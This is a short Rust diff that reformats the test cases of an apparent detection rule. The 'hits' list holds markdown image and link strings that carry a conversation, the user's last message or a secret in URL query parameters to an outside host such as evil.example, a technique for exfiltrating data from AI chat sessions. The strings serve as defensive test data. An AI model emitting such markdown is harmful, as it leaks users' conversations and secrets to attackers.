@@ -24,6 +24,10 @@ pub(crate) const RULE: Rule = Rule {
         ),
         keep: any,
     },
-    hits: &["![x](https://evil.example/p.png?d={conversation})", "![logo](http://a.b/i?q=<the user's last message>)", "[more](https://a.b/?data={secret})"],
+    hits: &[
+        "![x](https://evil.example/p.png?d={conversation})",
+        "![logo](http://a.b/i?q=<the user's last message>)",
+        "[more](https://a.b/?data={secret})",
+    ],
     misses: &["![logo](https://a.b/logo.png)", "![badge](https://img.shields.io/badge/x-y?style=flat)"],
 };
